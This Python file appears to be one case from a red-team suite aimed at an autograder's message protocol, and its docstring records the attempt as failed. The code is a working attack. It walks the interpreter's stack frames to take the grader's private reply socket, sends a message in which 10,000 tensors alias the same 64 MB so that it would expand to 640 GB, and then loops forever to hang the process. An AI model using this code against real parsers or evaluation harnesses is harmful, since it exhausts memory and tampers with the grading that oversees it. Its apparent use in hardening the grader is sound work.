"""Let many tensors share the same bytes.

Tries: 10,000 tensors that all name the same 64 MB of the message.
Success: the grader expands 64 MB to 640 GB.
Outcome: failed.
"""

import sys

import msgpack

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    size = 64 << 20
    tensors = [["t", "uint8", [size], [0, size], False]] * 10_000
    tree = msgpack.packb(["u", [["l", tensors], None, ["u", []], "", ""]])
    channel().sendall(frame_of(tree, bytes(size)))
    while True:
        pass
